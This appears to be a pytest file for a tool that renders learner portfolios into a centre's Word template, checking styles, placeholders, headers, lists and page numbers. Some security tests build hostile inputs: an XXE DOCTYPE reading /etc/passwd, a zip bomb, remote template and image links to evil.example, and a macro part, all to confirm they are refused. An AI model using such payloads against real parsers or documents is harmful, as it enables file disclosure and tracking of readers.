"""A document written into a centre's own Word file looks as that file says."""

import io
import json
import re
import subprocess
import zipfile

import docx
import pytest
from docx.enum.section import WD_ORIENT
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import parse_xml
from docx.shared import Inches, Pt, RGBColor

from evidence_builder.attachments.bind import pages_set
from evidence_builder.document.blocks import (
    Document,
    Heading,
    ListBlock,
    PageBreak,
    Paragraph,
    Table,
)
from evidence_builder.pipeline.build import build
from evidence_builder.pipeline.word_template import open_template
from evidence_builder.render.docx import render
from evidence_builder.render.docx.template.document import render_templated
from evidence_builder.render.docx.template.file import TemplateRefusedError
from evidence_builder.render.docx.verify import verify
from evidence_builder.render.layout import lay_out
from tests.conftest import program, write_files
from tests.documents import columns, kitchen_sink, para, png, row, standard, words
from tests.libreoffice import pages_in_libreoffice

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
R = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}"
VALUES = {
    "learner": "Amir Shah",
    "registration": "R 17",
    "centre": "Northfield College",
    "qualification": "Diploma",
    "title": "Portfolio",
}
NAMED = "Amir Shah · R 17"


@pytest.fixture(autouse=True)
def without_libreoffice(monkeypatch, request):
    """Ask LibreOffice where a test is about that, and nowhere else."""
    if not any("soffice" in mark.args for mark in request.node.iter_markers("needs")):
        monkeypatch.setenv("EVIDENCE_BUILDER_SOFFICE", "none")


def saved(made) -> bytes:
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()


def centre():
    """Return a template with a logo, placeholders spread over runs, and wide pages."""
    made = docx.Document()
    made.styles["Normal"].font.name = "Georgia"
    made.styles["Normal"].font.size = Pt(11.5)
    made.styles["Heading 1"].font.color.rgb = RGBColor(0x9C, 0x1F, 0x4B)
    section = made.sections[0]
    section.orientation = WD_ORIENT.LANDSCAPE
    section.page_width, section.page_height = Inches(11), Inches(8.5)
    section.left_margin = section.right_margin = Inches(1.5)
    head = section.header.paragraphs[0]
    head.add_run().add_picture(io.BytesIO(png().data), width=Inches(1))
    head.add_run(" {{lear")
    head.add_run("ner").bold = True
    head.add_run("}} of {{ Centre }}")
    section.footer.paragraphs[0].add_run("Candidate {{registration}}")
    made.add_paragraph("Words of the template")
    return made


def into(template, document=None):
    document = document or kitchen_sink()
    data = template if isinstance(template, bytes) else saved(template)
    layout = lay_out(document)
    template = open_template(data)
    made = render_templated(document, layout.page_map, template, VALUES, pages_set)
    verify(made.data, layout)
    return made


def simple(*blocks):
    return Document("A title", blocks, header_left=NAMED)


def names(data):
    return zipfile.ZipFile(io.BytesIO(data)).namelist()


def part(data, name="word/document.xml"):
    return zipfile.ZipFile(io.BytesIO(data)).read(name).decode()


def parts(data, kind):
    return [part(data, name) for name in names(data) if name.startswith(f"word/{kind}")]


def text(*xml):
    roots = [parse_xml(one.encode()) for one in xml]
    return "".join(one.text or "" for root in roots for one in root.iter(f"{W}t"))


def everything(data):
    archive = zipfile.ZipFile(io.BytesIO(data))
    return b"".join(archive.read(name) for name in archive.namelist())


def changed(data, changes):
    """Return a package with parts changed, or added, by name."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            content = source.read(name)
            if name in changes:
                content = changes[name](content.decode()).encode()
            target.writestr(name, content)
        for name in set(changes) - set(source.namelist()):
            target.writestr(name, changes[name](""))
    return buffer.getvalue()


def german(data):
    """Return a template as a German Word writes it: other ids, the same names."""
    ids = {"Normal": "Standard", "Title": "Titel", "TableNormal": "NormaleTabelle"}
    ids |= {f"Heading{level}": f"berschrift{level}" for level in range(1, 10)}

    def renamed(xml):
        for ours, theirs in ids.items():
            xml = re.sub(
                rf'(w:styleId|w:basedOn w:val|w:next w:val)="{ours}"',
                rf'\1="{theirs}"',
                xml,
            )
        return xml

    return changed(data, {"word/styles.xml": renamed})


def styles_of(data):
    root = parse_xml(part(data, "word/styles.xml").encode())
    return {
        style.get(f"{W}styleId"): style.find(f"{W}name").get(f"{W}val")
        for style in root.iter(f"{W}style")
    }


def styles_used(data):
    found = re.findall(r'<w:(?:p|r|tbl)Style w:val="(\w+)"/>', part(data))
    return set(found)


def test_every_style_that_is_used_is_there():
    for template in (saved(centre()), german(saved(centre()))):
        made = into(template).data

        assert styles_used(made) <= set(styles_of(made))


def test_headings_are_those_of_the_template():
    data = into(centre(), standard(3)).data
    opened = docx.Document(io.BytesIO(data))
    heading = next(one for one in opened.paragraphs if one.style.name == "Heading 1")

    assert str(heading.style.font.color.rgb) == "9C1F4B"
    assert opened.styles["Normal"].font.name == "Georgia"
    assert "Arial" not in part(data, "word/styles.xml")


def test_a_style_is_known_by_its_name_in_whatever_language_its_id_is():
    data = into(german(saved(centre())), standard(3)).data

    assert '<w:pStyle w:val="berschrift1"/>' in part(data)
    assert '"Heading1"' not in part(data)
    assert list(styles_of(data).values()).count("heading 1") == 1


def test_a_style_that_the_template_lacks_takes_its_colour_and_no_font():
    made = centre()
    caption = made.styles["Heading 3"]
    caption.delete()
    root = parse_xml(part(into(made).data, "word/styles.xml").encode())
    added = {
        style.get(f"{W}styleId"): style
        for style in root.iter(f"{W}style")
        if style.get(f"{W}styleId") in {"Heading3", "TableHeading", "TableText"}
    }

    assert added["Heading3"].find(f"{W}basedOn").get(f"{W}val") == "Heading2"
    colour = added["TableHeading"].find(f".//{W}color").get(f"{W}val")
    assert colour == "9C1F4B"
    assert [one.find(f".//{W}rFonts") for one in added.values()] == [None] * 3


def test_every_style_that_is_added_is_followed_by_one_that_is_there():
    root = parse_xml(part(into(centre()).data, "word/styles.xml").encode())
    styles = {style.get(f"{W}styleId"): style for style in root.iter(f"{W}style")}
    named = {
        style.find(f"{W}{name}").get(f"{W}val")
        for style in styles.values()
        for name in ("basedOn", "next")
        if style.find(f"{W}{name}") is not None
    }

    assert named <= set(styles)


def test_the_paper_is_that_of_the_template_and_tables_fit_it():
    table = Table(columns(1, 1), (row("a", "b"),))
    root = parse_xml(part(into(centre(), simple(table)).data).encode())
    size, margins = root.find(f".//{W}pgSz"), root.find(f".//{W}pgMar")
    widths = {int(one.get(f"{W}w")) for one in root.iter(f"{W}tblW")}

    assert (size.get(f"{W}w"), size.get(f"{W}h")) == ("15840", "12240")
    assert margins.get(f"{W}left") == str(int(1.5 * 1440))
    assert max(widths) == 15840 - 2 * 2160


def test_placeholders_are_filled_however_they_were_typed():
    data = into(centre()).data

    assert text(*parts(data, "header")).strip() == "Amir Shah of Northfield College"
    assert text(*parts(data, "footer")) == "Candidate R 17"
    assert not into(centre()).added


def test_the_logo_comes_along():
    data = into(centre()).data
    header = "word/header1.xml"
    relations = part(data, header.replace("word/", "word/_rels/") + ".rels")
    target = re.search(r'Target="([^"]*)"', relations)[1]
    archive = zipfile.ZipFile(io.BytesIO(data))

    assert archive.read(f"word/{target}") == png().data
    assert re.search(r'r:embed="(rId\d+)"', part(data, header))[1] in relations


def test_a_content_control_named_after_a_placeholder_is_filled():
    made = centre()
    control = (
        f'<w:sdt xmlns:w="{W[1:-1]}"><w:sdtPr><w:alias w:val="Learner"/>'
        "<w:showingPlcHdr/></w:sdtPr><w:sdtContent><w:r><w:t>Click here</w:t></w:r>"
        "</w:sdtContent></w:sdt>"
    )
    made.sections[0].header.paragraphs[0]._p.append(parse_xml(control))
    header = parts(into(made).data, "header")[0]

    assert text(header).endswith("Northfield CollegeAmir Shah")
    assert "showingPlcHdr" not in header


def test_pages_that_do_not_name_the_learner_get_a_line():
    made = docx.Document()
    section = made.sections[0]
    section.different_first_page_header_footer = True
    made.settings.odd_and_even_pages_header_footer = True
    section.header.paragraphs[0].text = "{{learner}} {{registration}}"
    section.first_page_header.paragraphs[0].text = "First page"
    section.even_page_header.paragraphs[0].text = "Even page"
    document = kitchen_sink()
    result = into(made, document)
    root = parse_xml(part(result.data).encode())
    relations = parse_xml(part(result.data, "word/_rels/document.xml.rels").encode())
    targets = {one.get("Id"): one.get("Target") for one in relations}
    lines = {
        one.get(f"{W}type"): text(
            part(result.data, f"word/{targets[one.get(f'{R}id')]}")
        )
        for one in root.iter(f"{W}footerReference")
    }

    assert result.added
    assert lines["first"] == lines["even"] == document.header_left
    assert "default" not in lines
    assert "evenAndOddHeaders" in part(result.data, "word/settings.xml")


def test_a_template_without_header_and_footer_gets_those_of_every_document():
    document = kitchen_sink()
    data = into(docx.Document(), document).data

    assert document.header_left in text(part(data, "word/header.xml"))
    assert "NUMPAGES" in part(data, "word/footer.xml")
    assert not into(docx.Document()).added


def test_the_words_of_a_template_are_dropped():
    assert "Words of the template" not in part(into(centre()).data)


def test_a_cover_around_the_place_of_the_portfolio_stays():
    made = centre()
    made.add_paragraph("Portfolio of {{learner}}", style="Title")
    made.add_picture(io.BytesIO(png(9, 9).data))
    made.add_page_break()
    made.add_paragraph("{{ portfolio }}")
    made.add_paragraph("The end")
    data = into(made, standard(3)).data
    lines = [one.text for one in docx.Document(io.BytesIO(data)).paragraphs]

    assert lines[:2] == ["Words of the template", "Portfolio of Amir Shah"]
    assert lines[-1] == "The end"
    assert not any("{{" in line for line in lines)
    numbers = re.findall(r'<wp:docPr id="(\d+)"', part(data))
    assert len(set(numbers)) == len(numbers)


def test_a_cover_in_a_section_of_its_own_keeps_its_pages():
    made = centre()
    made.add_section()
    made.sections[1].header.is_linked_to_previous = False
    made.sections[1].header.paragraphs[0].text = "{{learner}} {{registration}}"
    made.sections[0].header.paragraphs[0].text = "Cover"
    made.add_paragraph("{{portfolio}}")
    result = into(made)
    headers = [text(one).strip() for one in parts(result.data, "header")]

    assert {"Amir Shah R 17", "Cover"} <= set(headers)
    assert not result.added
    assert part(result.data).count("<w:sectPr") == 2


def test_pages_count_from_one_whatever_the_template_says():
    made = centre()
    count = f'<w:pgNumType xmlns:w="{W[1:-1]}" w:fmt="lowerRoman" w:start="7"/>'
    section = made.sections[0]._sectPr
    section.find(f"{W}cols").addprevious(parse_xml(count))

    assert 'w:start="7"' not in part(into(made).data)
    assert "lowerRoman" not in part(into(made).data)


def test_an_unknown_placeholder_is_named_and_stays():
    made = centre()
    made.sections[0].footer.paragraphs[0].add_run(" {{lerner}}")
    result = into(made)

    assert result.unknown == ("lerner",)
    assert "{{lerner}}" in text(*parts(result.data, "footer"))


def test_only_the_page_breaks_that_the_document_asks_for_are_kept():
    blocks = [para("words " * 200) for _ in range(12)]
    made = simple(Heading(1, words("A"), "a"), *blocks, PageBreak(), para("end"))
    template = part(into(centre(), made).data)

    asked = sum(isinstance(one, PageBreak) for one in made.blocks)
    assert template.count("<w:pageBreakBefore/>") == asked
    assert (
        part(render(made, lay_out(made).page_map)).count("<w:pageBreakBefore/>") > asked
    )


def test_lists_are_those_of_the_template_and_each_counts_anew():
    one = ListBlock(((para("a"),), (para("b"),)), ordered=True)
    data = into(centre(), simple(one, ListBlock(((para("c"),),)), one)).data
    root = parse_xml(part(data, "word/numbering.xml").encode())
    defined = [one.get(f"{W}numId") for one in root.iter(f"{W}num")]
    used = re.findall(r'<w:numId w:val="(\d+)"/>', part(data))

    assert len(set(defined)) == len(defined)
    assert set(used) <= set(defined)
    order = [one.tag for one in root if one.tag != f"{W}numPicBullet"]
    assert order == sorted(order)  # definitions before numbers


def test_a_content_control_in_which_somebody_typed_is_filled_too():
    control = (
        f'<w:sdt xmlns:w="{W[1:-1]}"><w:sdtPr><w:alias w:val="Learner"/></w:sdtPr>'
        "<w:sdtContent><w:r><w:t>Somebody</w:t></w:r></w:sdtContent></w:sdt>"
    )
    made = centre()
    made.sections[0].header.paragraphs[0]._p.append(parse_xml(control))
    header = parts(into(made).data, "header")

    assert "Somebody" not in str(header)


def test_what_may_be_passed_over_does_not_come_along():
    """What the template's root says of Word 2010's names does not hold in ours.

    ECMA-376 Part 3, 7.2 (Ignorable).
    """
    made = centre()
    made.add_paragraph("The cover")
    made.add_paragraph("{{portfolio}}")

    def told(xml):
        assert re.search(r'mc:Ignorable="[^"]*w14', xml)
        new = '<w14:extra/><w:p w14:paraId="1A2B3C4D"'
        return re.sub(r"<w:p(?= |>)", new, xml)

    document = part(into(changed(saved(made), {"word/document.xml": told})).data)

    assert "The cover" in document
    assert "1A2B3C4D" not in document
    assert "w14:extra" not in document


def test_a_style_of_lists_that_says_none_gets_one_number():
    made = centre()
    bullet = made.styles["List Bullet"]
    bullet.element.pPr.numPr.numId.val = 0
    data = into(made, simple(ListBlock(((para("c"),),)))).data
    root = parse_xml(part(data, "word/styles.xml").encode())

    (style,) = root.xpath("w:style[@w:styleId='ListBullet']")
    (number,) = style.xpath("w:pPr/w:numPr/w:numId/@w:val")
    assert number != "0"


@pytest.mark.parametrize(("based_on", "is_given"), [("List Number", 0), ("Normal", 1)])
def test_a_style_of_lists_gets_a_number_where_it_inherits_none(based_on, is_given):
    made = centre()
    bullet = made.styles["List Bullet"]
    bullet.base_style = made.styles[based_on]
    properties = bullet.element.pPr
    properties.remove(properties.numPr)
    data = into(made, simple(ListBlock(((para("c"),),)))).data
    root = parse_xml(part(data, "word/styles.xml").encode())

    (style,) = root.xpath("w:style[@w:styleId='ListBullet']")
    assert len(style.xpath("w:pPr/w:numPr/w:numId")) == is_given


def test_the_words_are_those_of_the_document_without_a_template():
    document = standard(6)
    plain = render(document, lay_out(document).page_map)
    lines = [
        [p.text for p in docx.Document(io.BytesIO(data)).paragraphs if p.text]
        for data in (plain, into(centre(), document).data)
    ]
    joined = ["".join(one).replace("\n", "") for one in lines]

    assert re.sub(r"\d+|\s", "", joined[0]) == re.sub(r"\d+|\s", "", joined[1])


def test_the_same_template_gives_the_same_bytes():
    template = saved(centre())

    assert into(template).data == into(template).data


@pytest.mark.needs("ooxml-validator")
@pytest.mark.parametrize("make", [saved, lambda made: german(saved(made))])
def test_what_comes_out_is_valid_word(make, tmp_path):
    made = centre()
    made.add_paragraph("Cover").add_run().add_picture(io.BytesIO(png().data))
    made.add_paragraph("{{portfolio}}")
    path = tmp_path / "file.docx"
    path.write_bytes(into(make(made)).data)

    ran = subprocess.run(  # noqa: S603 - our own file
        [program("ooxml-validator"), path], capture_output=True, check=True
    )
    assert json.loads(ran.stdout)["errors"] == []


@pytest.mark.needs("soffice")
def test_page_numbers_are_those_of_libreoffice(tmp_path):
    document = standard(12)
    made = centre()
    made.add_paragraph("Cover")
    made.add_page_break()
    made.add_paragraph("{{portfolio}}")
    result = into(made, document)
    stored = {
        name: int(page)
        for name, page in re.findall(
            r" PAGEREF (\w+) .*?<w:t>(\d+)</w:t>", part(result.data)
        )
    }
    found = pages_in_libreoffice(result.data, tmp_path)

    assert result.has_known_pages
    assert stored
    assert {name: found[name] for name in stored} == stored
    assert stored != {
        name: lay_out(document).page_map.targets.get(name) for name in stored
    }


PORTFOLIO = {
    "portfolio.yaml": (
        "kind: portfolio\nunits: [COUNTER 1]\nlearner: {name: Sam Patel}\n"
        "criteria: [criteria/]\n"
    ),
    "criteria/counter.yaml": (
        "kind: unit\nref: COUNTER 1\ntitle: Serve customers\nversion: '1'\n"
        "outcomes: [{id: 1, title: Be able to serve, "
        "criteria: [{id: 1.1, text: Greet customers}]}]\n"
    ),
}


def built(folder, template, to=("docx",)):
    write_files(folder, PORTFOLIO)
    (folder / "centre.docx").write_bytes(template)
    return build(folder, to, template=folder / "centre.docx", cached=False)


def test_a_build_without_libreoffice_says_that_page_numbers_may_differ(tmp_path):
    checked = built(tmp_path, saved(centre()))
    about = [one for one in checked.diagnostics if one.span.path == "centre.docx"]

    assert [one.code.slug for one in about] == ["page-numbers-unsure"]
    assert "Sam Patel" in text(
        *parts(checked.value.outputs["portfolio.docx"], "header")
    )


def test_a_template_that_cannot_be_used_costs_the_word_document_alone(tmp_path):
    checked = built(tmp_path, b"%PDF-1.7", ("docx", "html"))

    assert list(checked.value.outputs) == ["portfolio.html"]
    assert [one.message for one in checked.diagnostics if one.is_error] == [
        "centre.docx cannot be used: it is not a Word document"
    ]


def refusal(data):
    with pytest.raises(TemplateRefusedError) as caught:
        into(data)
    assert caught.value.hint
    return str(caught.value)


def test_a_file_that_is_no_word_document_is_refused():
    assert refusal(b"%PDF-1.7") == "it is not a Word document"
    assert refusal(b"") == "it is not a Word document"
    assert refusal(saved(centre())[:900]) == "it is damaged"
    renamed = {"word/document.xml": lambda _: "<w xmlns='urn:x'/>"}
    assert refusal(changed(saved(centre()), renamed)) == "it is not a Word document"


def test_a_doctype_is_refused():
    def with_doctype(xml):
        head, _, rest = xml.partition("?>")
        return f'{head}?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>{rest}'

    for name in ("word/document.xml", "word/styles.xml"):
        data = changed(saved(centre()), {name: with_doctype})
        assert "DOCTYPE" in refusal(data)


def test_a_bomb_is_refused():
    data = changed(saved(centre()), {"word/media/x.bin": lambda _: "0" * 20_000_000})

    assert "unpack" in refusal(data)


def test_a_template_without_styles_is_refused():
    none = f'<w:styles xmlns:w="{W[1:-1]}"/>'

    assert refusal(changed(saved(centre()), {"word/styles.xml": lambda _: none})) == (
        "it has no styles"
    )


def test_pages_without_room_are_refused():
    made = centre()
    made.sections[0].left_margin = Inches(9)

    assert "no room" in refusal(saved(made))


def test_nothing_active_and_nothing_outside_comes_along():
    relation = (
        '<Relationship Id="evil{}" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/{}" Target="{}" {}/></Relationships>'
    )

    def with_relation(kind, target, mode):
        new = relation.format(kind, kind, target, mode)
        return lambda xml: xml.replace("</Relationships>", new)

    data = saved(centre())
    outside = 'TargetMode="External"'
    for name, change in (
        (
            "word/_rels/settings.xml.rels",
            lambda _: (
                "<Relationships xmlns='http://schemas.openxmlformats.org/package/"
                "2006/relationships'>"
                + relation.format(
                    "t", "attachedTemplate", "https://evil.example/t", outside
                )
            ),
        ),
        (
            "word/settings.xml",
            lambda xml: xml.replace(
                "</w:settings>", '<w:updateFields w:val="true"/></w:settings>'
            ),
        ),
        ("word/vbaProject.bin", lambda _: "macro"),
    ):
        data = changed(data, {name: change})
    data = changed(
        data,
        {
            "word/_rels/document.xml.rels": with_relation(
                "image", "https://evil.example/pixel.png", outside
            )
        },
    )
    content = everything(into(data).data)

    for word in (b"evil", b"attachedTemplate", b"vbaProject", b"updateFields"):
        assert word not in content


def test_a_picture_from_outside_in_a_header_leaves_no_empty_frame():
    data = saved(centre())
    header = next(
        name for name in names(data) if "header" in name and "rels" not in name
    )

    def linked(xml):
        return xml.replace("r:embed=", "r:link=")

    made = into(changed(data, {header: linked})).data

    assert "<w:drawing" not in parts(made, "header")[0]


def test_styles_of_the_same_name_restyle_our_tables():
    made = centre()
    own = made.styles.add_style("Table Text", WD_STYLE_TYPE.PARAGRAPH)
    own.font.size = Pt(10)
    table = Table(columns(1), (row("x"),))
    data = into(made, simple(table)).data

    assert f'<w:pStyle w:val="{own.style_id}"/>' in part(data)
    assert list(styles_of(data).values()).count("Table Text") == 1


def test_a_paragraph_says_nothing_of_the_space_that_its_style_has():
    made = simple(Paragraph(words("before")), Heading(2, words("A heading")))

    assert 'w:after="' not in re.sub(
        r"<w:tc>.*?</w:tc>", "", part(into(centre(), made).data)
    )


def test_the_space_after_a_table_never_fills_a_line():
    data = into(centre(), simple(Table(columns(1), (row("x"),)), para("y"))).data
    gap = re.search(r'<w:pPr><w:pStyle w:val="TableGap"/>(.*?)</w:pPr>', part(data))[1]

    assert re.fullmatch(r'<w:spacing w:after="\d+"/>', gap)
